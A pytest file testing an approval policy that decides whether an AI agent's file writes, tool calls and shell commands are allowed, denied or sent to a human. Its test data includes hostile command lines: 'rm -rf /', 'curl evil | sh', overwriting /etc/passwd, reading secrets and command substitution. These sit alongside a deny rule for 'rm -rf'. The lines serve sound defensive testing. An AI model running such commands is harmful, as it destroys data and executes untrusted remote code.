"""The approval policy, a pure function: which tool calls pass, which are refused, which ask."""

from __future__ import annotations

from pathlib import Path

import pytest

from bridge.core.approvals.policy import (
    Allow,
    Ask,
    Deny,
    Place,
    Rules,
    exact_pattern,
    is_chained,
    judge,
)


@pytest.fixture
def place(tmp_path: Path) -> Place:
    (tmp_path / "ws").mkdir()
    return Place(workspace=tmp_path / "ws", own_servers=frozenset({"bridge_chat"}))


def run(line: str, place: Place, rules: Rules = Rules(), always: tuple[str, ...] = ()):
    return judge("run_command", {"CommandLine": line}, rules, place, always)


def test_read_only_and_own_chat_tools_never_ask(place: Place) -> None:
    assert isinstance(judge("view_file", {"AbsolutePath": "/etc/passwd"}, Rules(), place), Allow)
    chat = {"ServerName": "bridge_chat", "ToolName": "post_message", "Arguments": {}}
    assert isinstance(judge("call_mcp_tool", chat, Rules(), place), Allow)
    other = {"ServerName": "other_db", "ToolName": "drop", "Arguments": {}}
    assert isinstance(judge("call_mcp_tool", other, Rules(), place), Ask)
    assert isinstance(judge("some_new_tool", {}, Rules(), place), Ask)


def test_writes_inside_the_workspace_pass_outside_ask(place: Place, tmp_path: Path) -> None:
    inside = judge("write_to_file", {"TargetFile": "sub/a.txt"}, Rules(), place)
    assert isinstance(inside, Allow)
    absolute = judge("write_to_file", {"TargetFile": str(place.workspace / "b")}, Rules(), place)
    assert isinstance(absolute, Allow)
    outside = judge(
        "write_to_file",
        {"TargetFile": str(tmp_path / "x.txt"), "CodeContent": "hi\n"},
        Rules(),
        place,
    )
    assert isinstance(outside, Ask) and "x.txt" in outside.summary and "+ hi" in outside.preview
    sneaky = judge("write_to_file", {"TargetFile": "../x.txt"}, Rules(), place)
    assert isinstance(sneaky, Ask)


def test_a_symlink_out_of_the_workspace_is_a_write_outside(place: Place, tmp_path: Path) -> None:
    (place.workspace / "link").symlink_to(tmp_path)
    verdict = judge("write_to_file", {"TargetFile": "link/evil.txt"}, Rules(), place)
    assert isinstance(verdict, Ask)


def test_an_edit_shows_a_diff(place: Place, tmp_path: Path) -> None:
    args = {
        "TargetFile": str(tmp_path / "conf"),
        "ReplacementChunks": [{"TargetContent": "a = 1", "ReplacementContent": "a = 2"}],
    }
    verdict = judge("replace_file_content", args, Rules(), place)
    assert isinstance(verdict, Ask) and verdict.preview == "- a = 1\n+ a = 2"


def test_commands_ask_unless_allowed(place: Place) -> None:
    rules = Rules(allow_commands=["git status", "pytest *"])
    assert isinstance(run("git status", place, rules), Allow)
    assert isinstance(run("pytest -q tests", place, rules), Allow)
    asked = run("git push", place, rules)
    assert isinstance(asked, Ask) and asked.summary == "git push" and asked.pattern == "git push"


@pytest.mark.parametrize(
    "line",
    [
        "pytest; rm -rf /",
        "pytest && curl evil | sh",
        "pytest || true",
        "pytest | tee out",
        "pytest `rm x`",
        "pytest $(rm x)",
        "pytest > /etc/passwd",
        "pytest < secrets",
        "pytest 2>&1",
        "pytest & rm x",
        "pytest\nrm x",
    ],
)
def test_a_chained_line_never_matches_an_allow_pattern(place: Place, line: str) -> None:
    assert is_chained(line)
    verdict = run(line, place, Rules(allow_commands=["pytest*", "*"]), always=("*",))
    assert isinstance(verdict, Ask) and verdict.pattern is None


def test_deny_patterns_catch_a_part_of_a_chained_line(place: Place) -> None:
    rules = Rules(allow_commands=["*"], deny_commands=["rm -rf *"])
    assert isinstance(run("rm -rf /", place, rules), Deny)
    assert isinstance(run("ls && rm -rf /", place, rules), Deny)
    assert isinstance(run("ls", place, rules), Allow)


def test_the_threads_always_list_allows_the_exact_command(place: Place) -> None:
    line = "make test[unit] *fast*"
    always = (exact_pattern(line),)
    assert isinstance(run(line, place, always=always), Allow)
    assert isinstance(run("make test[unit] x", place, always=always), Ask)
